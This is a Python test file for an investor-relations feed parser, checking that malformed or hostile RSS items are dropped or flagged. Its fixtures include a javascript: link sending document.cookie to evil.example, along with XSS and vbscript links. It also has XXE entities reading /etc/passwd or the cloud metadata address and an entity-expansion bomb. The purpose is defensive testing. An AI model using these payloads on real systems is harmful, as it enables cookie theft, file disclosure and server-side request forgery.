"""ir_feed.parse on hostile feeds: what one bad item must not do to the feed or the database."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest

from ir_feed import parse as parse_module
from ir_feed.errors import FeedParseError
from ir_feed.models import FeedItem, Ticker
from ir_feed.normalize import normalize
from ir_feed.parse import parse_feed

GNW_GUID = "https://www.globenewswire.com/news-release/2026/09/11/3150001/0/en/Northwind.html"
STOCK = "https://www.globenewswire.com/rss/stock"
ISIN = "https://www.globenewswire.com/rss/ISIN"
# An entity bomb (never expanded) stops lxml's scan: every item then goes through feedparser's fallback path.
BOMB = (
    b'<!DOCTYPE rss [\n<!ENTITY a "aaaaaaaaaa">\n'
    + b"".join(f'<!ENTITY {n} "{("&" + p + ";") * 10}">\n'.encode() for p, n in zip("abcdefg", "bcdefgh", strict=True))
    + b"]>\n"
)


def rss(*items: str, prefix: bytes = b"", channel: str = "") -> bytes:
    body = (
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>T</title>'
        + channel
        + "".join(items)
        + "</channel></rss>"
    )
    return prefix + body.encode("utf-8")


def item(guid: str = "g1", title: str = "Title", **fields: str) -> str:
    extra = "".join(f"<{tag.replace('__', ':')}>{value}</{tag.replace('__', ':')}>" for tag, value in fields.items())
    return f"<item><guid>{guid}</guid><title>{title}</title>{extra}</item>"


def cat(term: str, domain: str | None = None) -> str:
    attr = f' domain="{domain}"' if domain else ""
    return f"<category{attr}>{term}</category>"


def texts(it: FeedItem) -> Iterator[str]:
    for value in (it.guid, it.release_id, it.url, it.title, it.issuer, it.isin, it.language, it.summary, it.content):
        if value is not None:
            yield value
    yield from it.subjects
    for t in it.tickers:
        yield t.symbol
        if t.exchange:
            yield t.exchange


# -- 1. dates that do not fit a datetime in UTC ------------------------------------


@pytest.mark.parametrize(
    "date",
    [
        "0001-01-01T00:00:00+05:00",
        "Fri, 31 Dec 9999 23:59 -1200",
        "9999-12-31T23:59:59-12:00",
    ],
)
def test_a_date_out_of_range_is_absent_and_the_feed_parses(date: str) -> None:
    feed = parse_feed(
        rss(
            item("g1", dc__modified=date, pubDate=date),
            item("g2", dc__modified="2026-09-11T23:43:00Z", pubDate="Fri, 11 Sep 2026 23:43 GMT"),
        )
    )
    bad, good = feed.items
    assert (bad.guid, bad.modified, bad.published) == ("g1", None, None)
    assert good.modified == good.published == datetime(2026, 9, 11, 23, 43, tzinfo=UTC)


# -- 2. character references XML cannot carry --------------------------------------

# "ō" is C5 8D in UTF-8: 0x8D is undefined in windows-1252, so feedparser's last
# guess, iso-8859-2, is what garbled every other item when a surrogate broke UTF-8.
NAMES = "Café Zürich Ōsaka ōtsu"


@pytest.mark.parametrize("ref", ["&#xD800;", "&#xdfff;", "&#55296;", "&#x00D800;"])
def test_a_surrogate_reference_does_not_garble_the_other_items(ref: str) -> None:
    clean = item("g1", NAMES, description=f"{NAMES} &amp; more")
    feed = parse_feed(rss(clean, item("g2", f"bad {ref} x &amp; y")))
    first, second = feed.items
    assert first.title == NAMES
    assert first.summary == f"{NAMES} & more"
    assert second.title == "bad \ufffd x & y"
    assert not any("parsed as" in p for p in feed.problems)
    # the untouched item keeps the digest it has in a feed without the bad one
    assert first.digest == parse_feed(rss(clean)).items[0].digest


def test_what_lxml_writes_is_made_valid_utf8_for_feedparser() -> None:
    # in UTF-16 the reference is not rewritten before lxml reads it, and lxml keeps the surrogate
    doc = rss(item("g1", NAMES), item("g2", "bad &#xD800; x")).decode()
    feed = parse_feed(('<?xml version="1.0" encoding="utf-16"?>' + doc).encode("utf-16"))
    first, second = feed.items
    assert first.title == NAMES
    assert second.title.startswith("bad \ufffd")
    assert not any("parsed as" in p for p in feed.problems)


@pytest.mark.parametrize("ref", ["&#0;", "&#x1;", "&#xFFFE;", "&#x110000;", "&#99999999999999999999;"])
def test_references_xml_forbids_are_dropped_without_losing_what_follows(ref: str) -> None:
    feed = parse_feed(rss(item("g1", f"a{ref}b &amp; c")))
    assert feed.items[0].title == "ab & c"


@pytest.mark.parametrize("prefix", [b"junk before the feed ", BOMB])
def test_surrogate_references_on_the_fallback_path_do_not_crash(prefix: bytes) -> None:
    data = rss(item("g1", "a &#xD800; b &#55296; c"), item("g2", NAMES), prefix=prefix, channel="<ttl>&h;</ttl>")
    assert parse_module._scan(data).items == []  # really the fallback path
    feed = parse_feed(data)
    assert [i.title for i in feed.items] == ["a \ufffd b \ufffd c", NAMES]


def test_anything_feedparser_raises_is_a_feed_parse_error(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args: Any, **kwargs: Any) -> Any:
        raise UnicodeEncodeError("utf-8", "\ud800", 0, 1, "surrogates not allowed")

    monkeypatch.setattr(parse_module.feedparser, "parse", boom)
    with pytest.raises(FeedParseError, match="feedparser failed: UnicodeEncodeError"):
        parse_feed(rss(item("g1")))  # reduced path fails, then the fallback
    with pytest.raises(FeedParseError, match="feedparser failed"):
        parse_feed(rss(item("g1"), prefix=b"junk "))  # fallback only


# -- 3. item links ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "link",
    [
        "javascript:fetch('https://evil.example/?c='+document.cookie)",
        "JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
        "vbscript:msgbox(1)",
        "mailto:ir@example.com",
        "file:///etc/passwd",
        "ftp://ftp.example.com/release.txt",
        "http://[oops/release",
    ],
)
def test_a_link_that_is_not_http_is_dropped_and_the_identity_stays(link: str) -> None:
    data = rss(item(GNW_GUID, link=link, dc__identifier="3150001"))
    for base in ("https://www.globenewswire.com/RssFeed/x", None):
        feed = parse_feed(data, base_url=base)
        (it,) = feed.items
        assert it.url is None
        assert it.guid == GNW_GUID
        assert normalize(it).key == "globenewswire.com:3150001"
        assert normalize(it).url is None


def test_a_link_with_control_characters_is_dropped() -> None:
    # lxml drops them; feedparser's fallback keeps them
    data = rss(item("g1", link="https://x.example/a\x01b"), item("g2", link="https://x.example/a b"), prefix=b"junk ")
    assert [i.url for i in parse_feed(data).items] == [None, "https://x.example/a b"]


def test_a_link_only_item_with_a_bad_link_gets_a_stable_key() -> None:
    data = b"<rss><channel><title>T</title><item><title>X</title><link>javascript:x()</link></item></channel></rss>"
    first = normalize(parse_feed(data).items[0])
    assert first.url is None
    assert first.key.startswith("hash:")
    assert normalize(parse_feed(data).items[0]).key == first.key


def test_http_links_resolve_and_file_links_only_in_file_feeds() -> None:
    data = rss(
        item("g1", link="https://example.com/a"),
        item("g2", link="/news/b.html"),
        item("g3", link="file:///srv/feeds/c.html"),
        item("g4", link="d.html"),
    )
    http = parse_feed(data, base_url="https://ir.example.org/feeds/rss.xml")
    assert [i.url for i in http.items] == [
        "https://example.com/a",
        "https://ir.example.org/news/b.html",
        None,
        "https://ir.example.org/feeds/d.html",
    ]
    local = parse_feed(data, base_url="file:///srv/feeds/rss.xml")
    assert [i.url for i in local.items] == [
        "https://example.com/a",
        "file:///news/b.html",
        None,  # feedparser turns file:///srv/... into file://srv/...: a remote host
        "file:///srv/feeds/d.html",
    ]
    # without a base a relative link cannot be fetched or published
    assert [i.url for i in parse_feed(data).items] == ["https://example.com/a", None, None, None]


# -- 4. values that do not fit their columns ----------------------------------------------


def _nul_feed() -> bytes:
    nul = "\x00"
    return rss(
        item(
            f"g{nul}1",
            f"Ti{nul}tle",
            link=f"https://x.example/a{nul}b",
            description=f"Sum{nul}mary",
            dc__contributor=f"Iss{nul}uer Inc",
            dc__identifier=f"31{nul}50001",
            language=f"e{nul}n",
        ).replace(
            "</item>",
            cat(f"NASDAQ:NW{nul}BT", STOCK) + cat(f"US74033P{nul}1003", ISIN) + cat(f"Sub{nul}ject") + "</item>",
        ),
        prefix=b"junk ",  # feedparser's fallback keeps NULs; lxml's scan drops them
    )


def test_nul_characters_are_stripped_from_every_field() -> None:
    (it,) = parse_feed(_nul_feed()).items
    assert not [v for v in texts(it) if "\x00" in v]
    assert (it.guid, it.title, it.url, it.summary, it.issuer) == (
        "g1",
        "Title",
        "https://x.example/ab",
        "Summary",
        "Issuer Inc",
    )
    assert (it.release_id, it.language, it.subjects) == ("3150001", "en", ("Subject",))
    assert it.tickers == (Ticker("NASDAQ", "NWBT"),)
    assert it.isin == "US74033P1003"


@pytest.mark.parametrize(
    ("term", "expected"),
    [
        ("US74033P1003", "US74033P1003"),
        ("us74033p1003", "US74033P1003"),
        ("CA69806A1084", "CA69806A1084"),
        ("US74033P100", None),  # 11 characters
        ("US74033P10033", None),  # 13
        ("1S74033P1003", None),  # no country letters
        ("US74033P100X", None),  # last character not a digit
        ("US-4033P1003", None),
        ("X" * 5000, None),
    ],
)
def test_isin_must_have_the_isin_format(term: str, expected: str | None) -> None:
    (it,) = parse_feed(rss(item("g1").replace("</item>", cat(term, ISIN) + "</item>"))).items
    assert it.isin == expected


def test_the_first_well_formed_isin_wins() -> None:
    cats = cat("not-an-isin", ISIN) + cat("US74033P1003", ISIN)
    (it,) = parse_feed(rss(item("g1").replace("</item>", cats + "</item>"))).items
    assert it.isin == "US74033P1003"


def test_tickers_longer_than_their_columns_are_dropped() -> None:
    long_symbol, long_exchange = "S" * 31, "Exchange " * 4
    cats = (
        cat(f"NASDAQ:{long_symbol}", STOCK)
        + cat(f"{long_exchange}:ABC", STOCK)
        + cat(f"NASDAQ:{'S' * 30}", STOCK)
        + cat(f"{'E' * 30}:XYZ", STOCK)
        + cat("TSX-V:PGZ", STOCK)
    )
    (it,) = parse_feed(rss(item("g1").replace("</item>", cats + "</item>"))).items
    assert it.tickers == (Ticker("NASDAQ", "S" * 30), Ticker("E" * 30, "XYZ"), Ticker("TSXV", "PGZ"))


def test_a_language_longer_than_its_column_is_dropped() -> None:
    long = "en-" + "x" * 30
    (it,) = parse_feed(rss(item("g1", language=long))).items
    assert it.language is None
    # the channel's language stands in when it fits
    (it,) = parse_feed(rss(item("g1", language=long), channel="<language>en-us</language>")).items
    assert it.language == "en-us"
    (it,) = parse_feed(rss(item("g1", language="x" * 20))).items
    assert it.language == "x" * 20


def test_a_very_long_issuer_is_cut() -> None:
    (it,) = parse_feed(rss(item("g1", dc__contributor="Northwind " * 60))).items
    assert it.issuer is not None
    assert len(it.issuer) <= 300
    assert it.issuer.startswith("Northwind Northwind")
    (short,) = parse_feed(rss(item("g1", dc__contributor="Northwind Biotherapeutics, Inc."))).items
    assert short.issuer == "Northwind Biotherapeutics, Inc."


# -- entity declarations: never expanded, always told --------------------------------------


@pytest.mark.parametrize(
    ("prefix", "said"),
    [
        (BOMB, "8 entity declaration(s)"),
        (b'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "external entities"),
        (b'<!DOCTYPE rss [<!ENTITY % p PUBLIC "-//x//y" "http://169.254.169.254/">]>\n', "external entities"),
    ],
)
def test_entity_declarations_are_a_problem_the_operator_sees(prefix: bytes, said: str) -> None:
    feed = parse_feed(rss(item(title="Title &b;"), prefix=prefix))
    assert any(said in p and "not expanded" in p for p in feed.problems), feed.problems
    assert all("root:" not in (it.title or "") and "aaaa" not in (it.title or "") for it in feed.items)


def test_a_plain_feed_has_no_problems() -> None:
    assert parse_feed(rss(item())).problems == ()


# -- what lxml's recovery lost and feedparser keeps ---------------------------------------


def test_a_raw_ampersand_in_a_link_or_guid_is_kept() -> None:
    feed = parse_feed(
        rss(
            item("http://x.example/?id=1&x", "T1", link="http://x.example/a?id=1&b=2"),
            item("http://x.example/?id=1&y", "T2"),
        )
    )
    assert [(it.guid, it.url) for it in feed.items] == [
        ("http://x.example/?id=1&x", "http://x.example/a?id=1&b=2"),
        ("http://x.example/?id=1&y", "http://x.example/?id=1&y"),
    ]  # two items, two identities — not one merged by a dropped "&x"


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("A &#X41; B", "A A B"),  # a capital X
        ("A &#66 B", "A B B"),  # no ";"
        ("x &nbsp;y &amp; z", "x \xa0y & z"),  # an HTML entity, and the "&amp;" after it
        ("&copy; Acme &foo; bar", "© Acme &foo; bar"),  # an unknown name is kept as written
    ],
)
def test_references_are_read_as_feedparser_reads_them(written: str, read: str) -> None:
    (it,) = parse_feed(rss(item("g1", written, link="http://x.example/a?id=1&amp;b=2"))).items
    assert " ".join(it.title.split()) == " ".join(read.split())  # titles are read with their spacing folded
    assert it.url == "http://x.example/a?id=1&b=2"


def test_an_ampersand_inside_cdata_stays_literal() -> None:
    (it,) = parse_feed(rss(item("g1", "<![CDATA[Tom &amp; Jerry & co]]>"))).items
    assert it.title in ("Tom & Jerry & co", "Tom &amp; Jerry & co")
    assert "&amp;amp;" not in it.title


# -- the charset the HTTP header names ---------------------------------------------------

_DOC = (
    '<rss version="2.0"><channel><title>T</title>'
    "<item><guid>g1</guid><title>Café résumé</title></item></channel></rss>"
)


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (_DOC.encode("cp1252"), "application/rss+xml; charset=windows-1252"),
        (('<?xml version="1.0" encoding="utf-8"?>' + _DOC).encode("cp1252"), 'text/xml; charset="Windows-1252"'),
        (_DOC.encode("utf-8"), "text/xml; charset=utf-8"),
        (b"\xef\xbb\xbf" + _DOC.encode("utf-8"), "text/xml; charset=windows-1252"),  # a BOM decides
        (_DOC.encode("utf-8"), "text/xml; charset=no-such-charset"),
    ],
)
def test_the_http_charset_decides_the_encoding(body: bytes, content_type: str) -> None:
    (it,) = parse_feed(body, content_type=content_type).items
    assert it.title == "Café résumé"


def test_without_the_header_an_undeclared_legacy_encoding_is_not_guessed() -> None:
    (it,) = parse_feed(_DOC.encode("cp1252")).items
    assert it.title == "Caf\ufffd r\ufffdsum\ufffd"  # as before: the header is what tells


@pytest.mark.parametrize(
    "person",
    [
        "<author>{}</author>",
        "<dc:creator>{}</dc:creator>",
        "<dc:creator><![CDATA[{}]]></dc:creator>",
        "<managingEditor>{}</managingEditor>",
    ],
)
def test_a_huge_author_field_is_cut_before_feedparser_reads_it(person: str) -> None:
    # feedparser's e-mail regex takes time in the square of a person field's length
    # (a 150 KB author held the GIL for minutes); the field is cut to 512 bytes and
    # the feed still parses, with a warning the operator sees
    huge = "a." * 100_000
    doc = (
        '<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
        "<title>t</title><item><title>Acme news</title><guid>https://example.com/r/1</guid>"
        + person.format(huge)
        + "</item></channel></rss>"
    ).encode()
    bounded, note = parse_module._bound_person_fields(doc)
    assert len(bounded) < 2_000 and note is not None and "200000 bytes" in note
    parsed = parse_feed(doc)
    assert [i.title for i in parsed.items] == ["Acme news"]
    assert any("author field" in p for p in parsed.problems)


def test_an_atom_author_name_is_cut_and_ordinary_authors_are_untouched() -> None:
    long_name = "<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title><entry><id>urn:x:1</id><title>A</title>"
    doc = (long_name + "<author><name>" + "n" * 5_000 + "</name></author></entry></feed>").encode()
    bounded, note = parse_module._bound_person_fields(doc)
    assert b"n" * 512 + b"</name>" in bounded and note is not None
    ordinary = b"<rss><channel><item><author>jane@example.com (Jane Doe)</author></item></channel></rss>"
    assert parse_module._bound_person_fields(ordinary) == (ordinary, None)
    cut_ref = b"<author>" + b"x" * 510 + b"&amp;" + b"y" * 100 + b"</author>"
    assert b"&am</author>" not in parse_module._bound_person_fields(cut_ref)[0]  # never half a reference


def test_an_unterminated_cdata_is_closed_at_its_element_s_end_and_no_item_is_lost() -> None:
    doc = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
        b"<item><title><![CDATA[Acme news</title><guid>https://example.com/r/1</guid>"
        b"<description><![CDATA[<p>kept as written</p>]]></description></item>"
        b"<item><title>Second</title><guid>https://example.com/r/2</guid></item></channel></rss>"
    )
    parsed = parse_feed(doc)
    assert [i.title for i in parsed.items] == ["Acme news", "Second"]  # no "![CD", nothing swallowed
    assert any("unterminated CDATA" in p for p in parsed.problems)
    balanced = doc.replace(b"Acme news</title>", b"Acme news]]></title>")
    assert parse_module._close_cdata(balanced) == (balanced, None)  # a well-formed feed is untouched
